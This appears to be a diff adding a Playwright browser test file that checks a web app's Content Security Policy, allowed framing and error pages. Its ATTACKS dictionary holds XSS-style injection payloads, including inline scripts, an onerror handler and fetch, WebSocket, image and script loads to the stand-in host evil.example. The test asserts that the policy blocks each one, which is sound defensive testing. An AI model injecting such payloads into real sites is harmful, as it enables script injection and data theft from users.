@@ -1,0 +1,157 @@
+"""The served product in a real browser: its policy hinders nothing of ours and everything else; who may embed it."""
+
+import re
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from threading import Thread
+
+import pytest
+from playwright.sync_api import expect
+
+from benchmarks.server import serving
+from opc.text import t
+from opc.ui.frame import PAGES
+from tests.serving.conftest import Logged, logged_server, warehouse_that_fails
+
+pytestmark = pytest.mark.browser
+ROOT = Path(__file__).resolve().parents[2]
+LANGUAGES = ("zh", "en")
+# What a text that became HTML, or a script in it, would try.
+ATTACKS = {
+    "handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hit = 1\">')",
+    "inline": "document.body.append(Object.assign(document.createElement('script'), {text: 'window.hit = 1'}))",
+    "address": "document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
+    "picture": "document.body.append(Object.assign(new Image(), {src: 'https://evil.example/?stolen'}))",
+    "request": "void fetch('https://evil.example/?stolen').catch(() => 0)",
+    "socket": "try { new WebSocket('wss://evil.example/') } catch {}",
+    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://evil.example/'}))",
+    "eval": "setTimeout('window.hit = 1')",
+    "style": "document.head.append(Object.assign(document.createElement('link'),"
+    " {rel: 'stylesheet', href: 'https://evil.example/x.css'}))",
+}
+
+
+@pytest.fixture(scope="module")
+def safe(warehouse_directory: Path) -> Iterator[str]:
+    """The address of the server that `make run` starts."""
+    with serving(ROOT / "server.py", warehouse_directory) as server:
+        yield f"http://localhost:{server.port}"
+
+
+def address(page: str, lang: str) -> str:
+    return f"{'' if page == 'overview' else Path(PAGES[page]).stem}?lang={lang}"
+
+
+def test_the_policy_hinders_nothing_that_is_loaded_only_when_it_is_needed(reader, safe):
+    """Calendar, list of choices, folded table; what a page shows at once is seen in test_accessibility.py."""
+    guest = reader(safe)
+    guest.open("compare")
+    expect(guest.page.locator(".js-plotly-plot .annotation-text").first).to_be_visible()
+    guest.page.get_by_test_id("stDateInput").get_by_role("button").last.click()
+    expect(guest.page.get_by_role("grid").first).to_be_visible()
+    guest.page.keyboard.press("Escape")
+    guest.page.get_by_role("combobox").first.click()
+    expect(guest.page.get_by_role("option").first).to_be_visible()
+    guest.page.keyboard.press("Escape")
+    guest.page.locator("summary").first.click()
+    expect(guest.page.locator(".opc-table:visible").first).to_be_visible()
+    assert guest.page.evaluate("window.opcCopies") is True
+    guest.assert_well()
+
+
+def test_an_answer_in_sql_is_drawn_and_taken_away_under_the_policy(reader, safe):
+    guest = reader(safe)
+    guest.open("explore?sql=select+name_zh,+population+from+city+limit+5")
+    expect(guest.page.locator(".js-plotly-plot .main-svg").first).to_be_visible()
+    with guest.page.expect_download() as taken:
+        guest.page.get_by_role("button", name="CSV").first.click()
+    assert taken.value.failure() is None
+    guest.assert_well()
+
+
+def test_a_file_of_the_interface_is_taken_away_under_the_policy(reader, safe):
+    guest = reader(safe)
+    guest.open("compare")
+    with guest.page.expect_download() as taken:
+        guest.page.locator('a[href*="/compare.zip"]').first.click()
+    assert taken.value.failure() is None
+    guest.assert_well()
+
+
+def test_what_became_html_by_mistake_can_neither_act_nor_call_out(reader, safe):
+    guest = reader(safe)
+    asked: list[str] = []
+    guest.page.context.route(re.compile("evil"), lambda route: (asked.append(route.request.url), route.abort()))
+    guest.open()
+    guest.page.evaluate(
+        "window.refused = []; document.addEventListener('securitypolicyviolation',"
+        " event => window.refused.push(event.effectiveDirective))"
+    )
+    unrefused = []
+    for attack, script in ATTACKS.items():
+        # The browser tells of it a moment later. Playwright's own waiting is an eval, which the policy refuses too.
+        refused = guest.page.evaluate(
+            f"async () => {{ window.refused.length = 0; {script};"
+            " await new Promise(done => setTimeout(done, 200)); return window.refused; }"
+        )
+        unrefused += [] if refused else [attack]
+    assert unrefused == []
+    assert guest.page.evaluate("window.hit") is None
+    assert asked == []
+
+
+class Portal(BaseHTTPRequestHandler):
+    """A page of another origin with a page of ours in its frame."""
+
+    ours = ""
+
+    def do_GET(self) -> None:
+        self.send_response(200)
+        self.send_header("content-type", "text/html; charset=utf-8")
+        self.end_headers()
+        self.wfile.write(f'<!doctype html><title>Portal</title><iframe src="{self.path[1:]}"></iframe>'.encode())
+
+    def log_message(self, *told: object) -> None:
+        """Say nothing."""
+
+
+@pytest.fixture(scope="module")
+def portal() -> Iterator[str]:
+    """The address of another origin, on the same machine."""
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Portal)
+    Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_port}"
+    server.shutdown()
+    server.server_close()
+
+
+def test_another_site_may_embed_the_view_for_it_and_nothing_else(reader, safe, portal):
+    guest = reader(safe)
+    guest.page.goto(f"{portal}/{safe}/compare?embed=true")
+    expect(guest.page.frame_locator("iframe").locator("h1.opc-title")).to_be_visible()
+    assert guest.complaints == []
+    guest.page.goto(f"{portal}/{safe}/compare")
+    assert guest.page.frame_locator("iframe").locator("h1.opc-title").count() == 0
+    assert any("frame-ancestors" in complaint for complaint in guest.complaints)
+
+
+@pytest.fixture(scope="module")
+def failing_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Logged]:
+    """A server on which every page fails."""
+    warehouse = warehouse_that_fails(tmp_path_factory.mktemp("failing"))
+    with logged_server(warehouse, warehouse / "log") as server:
+        yield server
+
+
+@pytest.mark.parametrize("lang", LANGUAGES)
+def test_a_page_that_fails_shows_a_sentence_with_a_reference_and_no_details(lang, reader, failing_server):
+    guest = reader(failing_server.address)
+    guest.page.goto(f"{failing_server.address}/{address('compare', lang)}")
+    box = guest.page.get_by_role("alert").filter(has_text=re.compile("[0-9a-f]{8}"))
+    expect(box).to_be_visible()
+    reference = re.search("[0-9a-f]{8}", box.inner_text())[0]
+    assert box.inner_text() == t("notice.failed", lang, reference=reference)
+    assert guest.page.get_by_test_id("stException").count() == 0
+    assert not re.search(r"Traceback|Catalog|\.py|duckdb", guest.page.inner_text("body"))
+    assert any(reference in line for line in failing_server.lines())
